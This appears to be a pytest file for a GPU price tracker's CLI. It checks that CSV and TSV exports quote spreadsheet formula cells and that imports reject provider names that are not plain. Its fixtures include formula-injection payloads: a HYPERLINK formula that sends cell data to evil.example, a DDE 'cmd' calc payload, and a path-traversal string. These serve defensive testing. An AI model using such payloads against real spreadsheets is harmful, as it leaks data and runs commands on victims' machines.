"""No CSV/TSV writer hands a spreadsheet a formula: provider-controlled text (offer id, region,
raw GPU name, provider display name) that starts with ``= + - @``, a tab or a carriage return is
written with a quote in front; numbers stay numbers; our own exports import back to the original
text; imports refuse provider names that are not plain names."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.engine import Engine
from typer.testing import CliRunner

from db.reader import in_transaction
from tests.fakes import make_fake, offers_payload, routing_transport
from tracker.cells import FORMULA_START, is_number, safe_cell, unescape
from tracker.cli import app as cli_app
from tracker.config.settings import Settings
from tracker.errors import ConfigError
from tracker.pipeline.collect import collect
from tracker.pipeline.imports import import_files

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = [
    {"sku": LINK, "gpu": "H100 SXM", "count": 1, "price": 2.5, "region": "+eu-1"},
    {"sku": "@SUM(1+1)", "gpu": "H100 SXM", "count": 8, "price": 20.0, "region": "-cmd|' /C calc'!A0"},
    {"sku": "\tTAB", "gpu": "=2+5 GPU", "count": 1, "price": 1.0, "region": "\rCR"},
]


def run(url: str, *args: str) -> str:
    result = CliRunner().invoke(cli_app, ["--db", url, *args])
    assert result.exit_code == 0, result.output
    return result.stdout


def hostile_store(engine: Engine) -> None:
    """A registered provider's name (the exports list registered providers only) answering hostile text."""
    [result] = collect(engine, Settings(http={"timeout_s": 2, "retries": 1, "backoff_s": 0}),
                       classes=[make_fake("runpod")],
                       transport_factory=routing_transport({"runpod": offers_payload(*HOSTILE)}))
    assert result.ok, result.error_message


def cells_of(text: str, delimiter: str) -> list[str]:
    if delimiter == "\t":
        return [c for line in text.splitlines() for c in line.split("\t")]
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def assert_safe(name: str, cells: list[str]) -> None:
    formulas = [c for c in cells if c.startswith(FORMULA_START) and not is_number(c)]
    assert not formulas, f"{name} writes formula cells: {formulas[:5]}"


def test_every_csv_and_tsv_writer_quotes_formula_cells(engine: Engine, db_url: str, tmp_path: Path) -> None:
    hostile_store(engine)
    outputs: dict[str, tuple[str, str]] = {}
    for fmt, sep in (("csv", ","), ("tsv", "\t")):
        outputs[f"prices {fmt}"] = (run(db_url, "prices", "--format", fmt, "--wide"), sep)
        outputs[f"providers {fmt}"] = (run(db_url, "providers", "--format", fmt), sep)
        outputs[f"history {fmt}"] = (run(db_url, "history", "--gpu", "H100", "--since", "2d", "--every", "1h",
                                         "--format", fmt), sep)
        outputs[f"catalog resolve {fmt}"] = (run(db_url, "catalog", "resolve", "--format", fmt, "=1+2 H100"), sep)
    focus = tmp_path / "focus.csv"
    run(db_url, "export", "--format", "focus", "-o", str(focus))
    outputs["export focus"] = (focus.read_bytes().decode(), ",")
    outputs["export opencost gpu"] = (run(db_url, "export", "--format", "opencost"), ",")
    outputs["export opencost node"] = (run(db_url, "export", "--format", "opencost", "--asset-class", "node",
                                           "--provider", "runpod"), ",")
    for name, (text, sep) in outputs.items():
        assert_safe(name, cells_of(text, sep))
    # the hostile text is there, quoted, and reads back as it was
    prices = list(csv.DictReader(io.StringIO(outputs["prices csv"][0])))
    assert {unescape(r["sku"]) for r in prices} == {o["sku"] for o in HOSTILE}
    assert "'" + LINK in {r["sku"] for r in prices}
    assert {unescape(r["region"]) for r in prices} == {o["region"].replace("\r", "\n") for o in HOSTILE}
    records = list(csv.DictReader(io.StringIO(outputs["export focus"][0])))
    assert {r["SkuId"] for r in records} >= {"'" + LINK, "'@SUM(1+1)"}
    assert all(not r["UnitPrice"].startswith("'") and float(r["UnitPrice"]) > 0 for r in records)
    node = list(csv.DictReader(io.StringIO(outputs["export opencost node"][0])))
    assert {r["Region"] for r in node} >= {"'+eu-1", "'-cmd|' /C calc'!A0"}
    tsv_rows = outputs["prices tsv"][0].splitlines()
    assert any(f"'{LINK}" in line for line in tsv_rows)


def test_the_quoted_export_imports_back_to_the_original_text(engine: Engine, db_url: str, tmp_path: Path) -> None:
    """The importer strips the blanks around a cell, as before; the quote never reaches the store."""
    from sqlmodel import Session

    from db import reads
    from db.engine import make_engine
    from db.migrate import init_db

    hostile_store(engine)
    path = tmp_path / "prices.csv"
    path.write_text(run(db_url, "prices", "--format", "csv"))
    target = make_engine(f"sqlite:///{tmp_path / 'target.db'}")
    init_db(target)
    result = import_files(target, [path])
    assert not result.bad_rows and result.rows == 3
    with Session(target) as s:
        back = {(r["sku"], r["region"]) for r in reads.latest_prices(in_transaction(s.connection()))}
    target.dispose()
    assert back == {(o["sku"].strip(), o["region"].strip()) for o in HOSTILE}
    assert (LINK, "+eu-1") in back


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+1 555", "'+1 555"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\nx"), ("a\r\nb", "a\nb"), ("\nx", "'\nx"), ("'=x", "''=x"), ("plain", "plain"), ("'quoted", "'quoted"),
    ("-1.5", "-1.5"), ("+2", "+2"), ("-3e-05", "-3e-05"), (-1.5, -1.5), (0, 0), (None, None), ("-inf", "'-inf"),
])
def test_cell_rule(value: Any, expected: Any) -> None:
    assert safe_cell(value) == expected
    if isinstance(value, str):
        assert unescape(safe_cell(value)) == value.replace("\r\n", "\n").replace("\r", "\n")


def test_csv_and_json_keep_negative_numbers_numeric(capsys: pytest.CaptureFixture[str]) -> None:
    from tracker.cli.common import Format, emit

    emit([{"change_pct": -12.5, "name": "-x"}], Format.csv)
    assert capsys.readouterr().out.splitlines()[1] == "-12.5,'-x"
    emit([{"change_pct": -12.5, "name": "-x"}], Format.tsv, columns=[("change_pct", "c"), ("name", "n")])
    assert capsys.readouterr().out.splitlines()[1] == "-12.5\t'-x"


def prices_csv(path: Path, provider: str) -> Path:
    path.write_text("provider,sku,kind,gpu_raw,gpu_count,price_per_hour,currency,observed_at\n"
                    f"{provider},a1,on_demand,H100 SXM,1,2.5,USD,2025-06-01T12:00:00+00:00\n"
                    "runpod,a2,on_demand,H100 SXM,1,2.5,USD,2025-06-01T12:00:00+00:00\n")
    return path


@pytest.mark.parametrize("provider", ["=HYPERLINK(\"x\")", "@evil", "../../etc", "a\u0007b", "x" * 65, "-rm"])
def test_imports_refuse_provider_names_that_are_not_plain(sqlite_engine: Engine, tmp_path: Path, provider: str) -> None:
    quoted = '"' + provider.replace('"', '""') + '"'
    result = import_files(sqlite_engine, [prices_csv(tmp_path / "p.csv", quoted)])
    [bad] = result.bad_rows
    assert bad.line == 2 and "is not a plain name" in bad.reason and "\n" not in bad.reason
    assert result.providers == ["runpod"] or "runpod" in json.dumps(result.summary())


def test_archive_and_skypilot_provider_names_must_be_plain(sqlite_engine: Engine, tmp_path: Path) -> None:
    ewy = tmp_path / "obs.csv"
    ewy.write_text("collected_at,source,provider,gpu_model,sku,gpu_count,usd_per_hour,pricing,region,sample_size\n"
                   "2025-06-01T12:00:00Z,=cmd,x,H100,h100,1,2.5,on_demand,us,1\n"
                   "2025-06-01T12:00:00Z,vast,x,H100,h100,1,2.5,on_demand,us,1\n")
    result = import_files(sqlite_engine, [ewy], fmt="ewyluda")
    assert [b.line for b in result.bad_rows] == [2] and "not a plain name" in result.bad_rows[0].reason
    vms = tmp_path / "vms.csv"
    vms.write_text("InstanceType,AcceleratorName,AcceleratorCount,Price,Region\ng1,H100,1,2.0,us\n")
    from datetime import UTC, datetime

    with pytest.raises(ConfigError, match="--provider '=evil' is not a plain name"):
        import_files(sqlite_engine, [vms], provider="=evil", observed_at=datetime(2025, 6, 1, tzinfo=UTC))
